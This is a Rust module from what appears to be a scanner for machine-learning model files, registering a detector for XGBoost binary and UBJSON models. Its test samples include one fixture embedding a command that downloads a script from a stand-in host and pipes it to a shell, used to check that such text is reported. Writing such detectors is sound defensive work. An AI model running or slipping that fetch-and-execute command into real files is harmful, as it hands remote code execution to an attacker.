//! XGBoost's binary models, old (`binf`) and UBJSON.
//!
//! Nothing in them runs; texts that hold commands or code are reported. JSON models are read as
//! JSON.

use crate::format::{Claim, Format, Probe};
use crate::registry::raw::search;

/// The descriptor.
pub const FORMAT: Format = Format {
    name: "xgboost_bin",
    title: "XGBoost binary model",
    family: "xgboost",
    wants,
    read: search,
    stream: None,
    head_only: false,
    #[cfg(test)]
    samples: tests::samples,
};

fn wants(probe: &Probe<'_>) -> Option<Claim> {
    let ubjson = probe.starts(b"{L") && probe.head_has("learner");
    (probe.starts(b"binf") || ubjson).then_some(Claim::Magic)
}

#[cfg(test)]
pub(crate) mod tests {
    pub(crate) fn samples() -> Vec<Vec<u8>> {
        vec![
            b"binf\0\0\0\0".to_vec(),
            b"binfos.system('curl http://x.example/p.sh | sh')\0".to_vec(),
        ]
    }

    #[test]
    fn only_its_texts_matter() {
        crate::registry::raw::tests::only_texts_matter(&samples());
    }
}
